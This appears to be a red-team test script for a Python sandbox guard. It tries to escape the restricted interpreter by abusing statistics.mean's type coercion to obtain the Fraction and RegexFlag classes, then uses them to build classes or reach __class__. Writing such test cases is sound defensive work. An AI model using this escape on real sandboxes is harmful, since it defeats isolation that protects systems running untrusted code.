# ruff: noqa - a hostile script, kept as written
# threat: 3 reach interpreter internals
# technique: statistics.mean computes T = type(x) of the data and returns T(value): data that are classes make T the real type, data of an enum member make T its enum class
# red team: 6d8a476, wide allowlist
import statistics, re

class X:
    def as_integer_ratio():
        return (1, 1)

T = statistics.mean([X, X])  # type(Fraction(1)) - the Fraction class, already importable
candidates = [T]
try:
    candidates.append(statistics.mean([re.IGNORECASE, re.IGNORECASE]))  # RegexFlag(Fraction(2))
except ValueError:
    pass
for candidate in candidates:
    try:
        built = candidate("Built", (dict,), {})
        result = "ESCAPED built a class outside the guard: " + repr(built)
    except (TypeError, ValueError):
        pass
    try:
        getattr(candidate, "__class__")
        result = "ESCAPED class of " + repr(candidate)
    except AttributeError:
        pass
